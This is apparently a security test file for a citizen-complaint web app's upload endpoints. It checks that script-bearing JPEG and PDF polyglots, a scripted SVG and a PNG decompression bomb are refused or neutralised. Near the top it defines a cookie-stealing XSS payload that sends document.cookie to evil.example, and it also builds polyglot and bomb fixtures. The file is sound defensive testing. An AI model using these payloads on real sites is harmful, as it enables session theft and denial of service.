import fs from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import supertest from 'supertest';
import { attachmentPath } from '../../src/attachments/store.js';
import { jpeg, reportBody, seeded } from '../api/helpers.js';
import { html, pngBomb, svg } from '../attachments/fixtures.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { citizenOf, inProgressAt, OWN_OPD, type FixtureReport, type Staff, staffMember, tempDir, visitor } from './fixtures.js';

/**
 * Hostile uploads through the real endpoints (web form, citizen API, follow-up page):
 * polyglots keep none of their second nature, SVG is refused, a PDF that is also HTML is
 * only ever downloaded, sandboxed, and a decompression bomb is refused before it is
 * decoded. A refusal leaves no report, no row and no file behind.
 */
describe('security: upload polyglots and decompression bombs', function () {
  this.timeout(120_000);
  let t: TestApp;
  let uploadDir: string;
  let coordinator: Staff;

  const SCRIPT = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
  const count = async (table: 'reports' | 'attachments') =>
    Number((await t.database.db.selectFrom(table).select(t.database.db.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
  /** Every file under UPLOAD_DIR, temp folder included. */
  const files = () => (fs.existsSync(uploadDir) ? (fs.readdirSync(uploadDir, { recursive: true }) as string[]).filter((p) => fs.statSync(path.join(uploadDir, p)).isFile()) : []);

  /** POST /api/v1/reports with one file; the fields as a multipart client sends them. */
  let ref: Awaited<ReturnType<typeof seeded>>;
  function submit(bytes: Buffer, filename: string, contentType: string) {
    const body = reportBody(ref);
    const req = supertest(t.app).post('/api/v1/reports');
    for (const [k, v] of Object.entries(body)) req.field(k, k === 'reporter' ? JSON.stringify(v) : String(v));
    return req.attach('files', bytes, { filename, contentType });
  }

  async function storedOf(code: string) {
    return t.database.db
      .selectFrom('attachments as a').innerJoin('reports as r', 'r.id', 'a.report_id')
      .select(['a.id', 'a.storage_key', 'a.mime_type', 'a.original_name'])
      .where('r.tracking_code', '=', code).executeTakeFirstOrThrow();
  }

  /** A refused upload: 422 naming the file, and nothing written anywhere. */
  async function expectRefused(send: () => PromiseLike<supertest.Response>, name: string) {
    const before = { reports: await count('reports'), attachments: await count('attachments'), files: files().length };
    const res = await send();
    expect(res.status, res.text.slice(0, 300)).to.equal(422);
    expect(res.text).to.include(name);
    // Temp files go when the response closes.
    await new Promise((r) => setTimeout(r, 100));
    expect({ reports: await count('reports'), attachments: await count('attachments'), files: files().length }, files().join(', ')).to.deep.equal(before);
    return res;
  }

  before(async () => {
    uploadDir = tempDir('epengaduan-uploads-sec');
    t = await buildTestApp({ UPLOAD_DIR: uploadDir, REPORT_IP_LIMIT_PER_HOUR: '10000' });
    coordinator = await staffMember(t, 'coordinator', null);
    ref = await seeded(t);
  });
  after(() => fs.rmSync(uploadDir, { recursive: true, force: true }));

  it('a JPEG with HTML and a script appended is stored as pixels only, and served as an image', async () => {
    const polyglot = Buffer.concat([await jpeg(), Buffer.from(`<html><body>${SCRIPT}</body></html>`)]);
    const res = await submit(polyglot, 'foto.html', 'text/html').expect(201);
    const a = await storedOf(res.body.code);
    expect(a.mime_type).to.equal('image/jpeg');
    expect(a.original_name).to.match(/\.jpg$/);
    const stored = fs.readFileSync(attachmentPath(uploadDir, a.storage_key));
    expect(stored.includes('<script')).to.equal(false);
    expect(stored.includes('<html')).to.equal(false);
    const served = await coordinator.agent.get(`/staf/lampiran/${a.id}`).expect(200);
    expect(served.headers['content-type']).to.equal('image/jpeg');
    expect(served.headers['x-content-type-options']).to.equal('nosniff');
    expect(served.headers['content-security-policy']).to.include('sandbox');
  });

  it('an SVG with a script is refused, whatever it is called or declared as', async () => {
    const evil = Buffer.from(String(svg()).replace('</svg>', `<script>alert(document.domain)</script></svg>`));
    await expectRefused(() => submit(evil, 'peta.svg', 'image/svg+xml'), 'peta.svg');
    await expectRefused(() => submit(evil, 'foto.jpg', 'image/jpeg'), 'foto.jpg');
  });

  it('HTML named .pdf is refused; a PDF that is also HTML is only ever downloaded, sandboxed', async () => {
    await expectRefused(() => submit(html(), 'surat.pdf', 'application/pdf'), 'surat.pdf');
    const polyglot = Buffer.from(`%PDF-1.4\n<html><body>${SCRIPT}</body></html>\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n`);
    const res = await submit(polyglot, 'surat.html', 'text/html').expect(201);
    const a = await storedOf(res.body.code);
    expect(a.mime_type).to.equal('application/pdf');
    expect(a.original_name).to.match(/\.pdf$/);
    const served = await coordinator.agent.get(`/staf/lampiran/${a.id}`).expect(200);
    expect(served.headers['content-type']).to.equal('application/pdf');
    expect(served.headers['content-disposition']).to.match(/^attachment;/);
    expect(served.headers['x-content-type-options']).to.equal('nosniff');
    expect(served.headers['content-security-policy']).to.equal("default-src 'none'; sandbox");
  });

  it('a small PNG declaring 50000x50000 pixels is refused on the form, the API and the follow-up page', async () => {
    const bomb = pngBomb();
    expect(bomb.length).to.be.lessThan(100_000);
    const message = /Resolusi gambar (&quot;|")bom\.png(&quot;|") terlalu besar/;
    // The web form, as a browser without JavaScript sends it.
    const v = await visitor(t);
    const form = await expectRefused(
      () => v.agent.post('/lapor').set('X-CSRF-Token', v.csrf)
        .field('kind', 'pengaduan').field('title', 'Jalan berlubang di Desa Sambiroto')
        .field('body', 'Jalan desa berlubang besar di depan balai desa sejak dua minggu.')
        .field('name', 'Budi').field('email', 'budi.bom@example.com').field('consent', '1')
        .attach('files', bomb, { filename: 'bom.png', contentType: 'image/png' }),
      'bom.png',
    );
    expect(form.text).to.match(message);
    const api = await expectRefused(() => submit(bomb, 'bom.png', 'image/png'), 'bom.png');
    expect((api.body.errors as { message: string }[]).map((e) => e.message).join(' ')).to.match(message);
    // A citizen adding information to their report.
    const made = await submit(await jpeg(), 'foto.jpg', 'image/jpeg').expect(201);
    const row = await t.database.db.selectFrom('reports').select(['id', 'title']).where('tracking_code', '=', made.body.code).executeTakeFirstOrThrow();
    const report: FixtureReport = { id: row.id, code: made.body.code, secret: made.body.secret, attachmentId: 0, title: row.title };
    await inProgressAt(t, report, OWN_OPD);
    const citizen = await citizenOf(t, report);
    const page = await expectRefused(
      () => citizen.agent.post(`/lacak/${report.code}/informasi`).set('X-CSRF-Token', citizen.csrf)
        .field('body', 'Foto tambahan dari lokasi.').attach('files', bomb, { filename: 'bom.png', contentType: 'image/png' }),
      'bom.png',
    );
    expect(page.text).to.match(message);
  });
});
